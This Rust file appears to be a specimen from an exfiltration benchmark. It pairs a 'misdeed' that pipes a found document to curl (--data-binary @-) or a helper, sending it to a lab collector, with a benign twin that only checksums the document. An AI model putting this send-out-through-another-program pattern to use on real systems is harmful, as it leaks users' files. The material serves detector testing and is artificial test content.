//! A document goes out through another program. ExfilBench I04, ATT&CK T1059.004, T1202.
//!
//! The scanner opens no socket: it starts `curl`, or the product's own helper, and writes the
//! document to its standard input. The twin has the helper compute a checksum.

use std::io::{self, Write as _};
use std::path::Path;
use std::process::{Command, Stdio};

use super::{Conduct, Loot, Trouble, sibling};
use crate::configuration::Configuration;
use crate::document::{Sort, Taker};
use crate::lab::{Endpoint, Lab};
use crate::parameters::Carrier;
use crate::scanner::Tally;

/// Where Debian installs it.
const CURL: &str = "/usr/bin/curl";

/// Has a document sent.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let collector = self.0.lab.collector()?;
        let parameters = &self.0.lab.configuration().parameters;
        let command = match parameters.carrier {
            Carrier::Curl if Path::new(CURL).exists() => curl(&collector, &parameters.path),
            Carrier::Curl | Carrier::Helper => helper(&collector)?,
        };
        Ok(feed(command, &self.0.document()?.content)?)
    }
}

/// Has a checksum computed.
#[derive(Debug)]
struct Twin(Taker);

pub(crate) fn twin(configuration: Configuration) -> Box<dyn Conduct> {
    Box::new(Twin(Taker::new(configuration.parameters.pick, Sort::Document)))
}

impl Conduct for Twin {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let Some(document) = self.0.document() else { return Ok(()) };
        let mut command = Command::new(sibling("specimen-helper")?);
        command.arg("checksum");
        Ok(feed(command, &document.content)?)
    }
}

/// The address is handed over too, so that what was checked is what is reached.
fn curl(collector: &Endpoint, path: &str) -> Command {
    let (host, port) = (&collector.host, collector.address.port());
    let mut command = Command::new(CURL);
    command.args(["--silent", "--max-time", "5", "--data-binary", "@-", "--output", "/dev/null"]);
    command.arg("--resolve").arg(format!("{host}:{port}:{}", collector.address.ip()));
    command.arg(format!("http://{host}:{port}{path}"));
    command
}

fn helper(collector: &Endpoint) -> io::Result<Command> {
    let mut command = Command::new(sibling("specimen-helper")?);
    command.args(["send", &collector.host, &collector.address.port().to_string()]);
    Ok(command)
}

fn feed(mut command: Command, bytes: &[u8]) -> io::Result<()> {
    let mut child = command.stdin(Stdio::piped()).spawn()?;
    if let Some(mut input) = child.stdin.take() {
        input.write_all(bytes)?;
    }
    // A carrier that gets no answer may complain; the bytes are out all the same.
    child.wait().map(drop)
}
